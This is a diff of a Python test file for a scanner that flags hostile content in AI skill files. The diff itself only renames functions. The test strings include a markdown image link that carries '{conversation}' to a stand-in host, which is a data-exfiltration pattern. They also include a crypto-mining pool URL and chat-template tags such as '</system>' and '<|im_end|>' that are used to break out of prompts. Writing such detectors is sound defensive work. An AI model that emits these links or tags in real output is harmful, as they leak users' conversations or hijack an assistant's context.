@@ -6,17 +6,17 @@ from tests.rows import each_row
 from prowess.reading.views import View
 from prowess.safety.model import Level
 from prowess.safety.prose.patterns import (
-    body_breakouts,
-    frontmatter_marks,
-    frontmatter_problems,
-    text_marks,
+    find_breakouts,
+    find_frontmatter_marks,
+    find_frontmatter_problems,
+    find_text_marks,
 )
 
 HOST = "https://x.example.invalid"
 
 
 def marks(text: str, path: str = "SKILL.md") -> list[tuple[str, str]]:
-    return [(mark.rule_id, mark.spot.text) for mark in text_marks(View.raw(path, text))]
+    return [(mark.rule_id, mark.spot.text) for mark in find_text_marks(View.raw(path, text))]
 
 
 @each_row(
@@ -61,7 +61,7 @@ def test_other_links_are_quiet(text: str) -> None:
 def test_a_link_in_quotation_marks_is_quoted() -> None:
     view = View.raw("SKILL.md", f'Never write "![a]({HOST}/p?d={{conversation}})" there.')
 
-    assert [mark.lowered_by for mark in text_marks(view)] == [("quoted",)]
+    assert [mark.lowered_by for mark in find_text_marks(view)] == [("quoted",)]
 
 
 @each_row(
@@ -89,7 +89,8 @@ def test_a_signature_that_looks_for_a_trap_is_no_trap() -> None:
 def test_a_pool_is_used_in_a_script_and_may_be_watched_in_prose() -> None:
     text = "stratum+tcp://pool.example.invalid:3333"
     levels = {
-        path: [mark.level for mark in text_marks(View.raw(path, text))] for path in ("a.md", "a.sh")
+        path: [mark.level for mark in find_text_marks(View.raw(path, text))]
+        for path in ("a.md", "a.sh")
     }
 
     assert levels == {"a.md": [Level.INFO], "a.sh": [None]}
@@ -108,14 +109,14 @@ def test_a_pool_is_used_in_a_script_and_may_be_watched_in_prose() -> None:
     ],
 )
 def test_crafted_text_is_searched_in_time(text: str) -> None:
-    list(text_marks(View.raw("SKILL.md", text)))
+    list(find_text_marks(View.raw("SKILL.md", text)))
 
 
 # The block above
 
 
 def front(text: str) -> list[tuple[str, str]]:
-    return [(mark.rule_id, mark.spot.text) for mark in frontmatter_marks(View.raw("a", text))]
+    return [(mark.rule_id, mark.spot.text) for mark in find_frontmatter_marks(View.raw("a", text))]
 
 
 @each_row(
@@ -166,7 +167,7 @@ def test_a_crafted_block_is_searched_in_time(text: str) -> None:
 def problems(block: str, rest: str = "") -> list[tuple[int, str]]:
     text = f"---\n{block}---\n{rest}"
     whole = View.raw("SKILL.md", text)
-    found = frontmatter_problems(whole.cut(4, 4 + len(block)), whole)
+    found = find_frontmatter_problems(whole.cut(4, 4 + len(block)), whole)
     return [(mark.spot.offset, mark.rule_id) for mark in found]
 
 
@@ -187,7 +188,7 @@ def test_a_second_block_is_seen() -> None:
 @pytest.mark.parametrize("tag", ["</system>", "<|im_end|>", "</function_results>", "[INST]"])
 def test_a_bare_tag_in_prose_breaks_out_and_one_in_backticks_does_not(tag: str) -> None:
     def seen(text: str) -> list[int]:
-        return [mark.spot.start for mark in body_breakouts(View.raw("a", text))]
+        return [mark.spot.start for mark in find_breakouts(View.raw("a", text))]
 
     assert seen(f"Now {tag} go on.") == [4]
     assert seen(f"The tag `{tag}` ends it.") == []
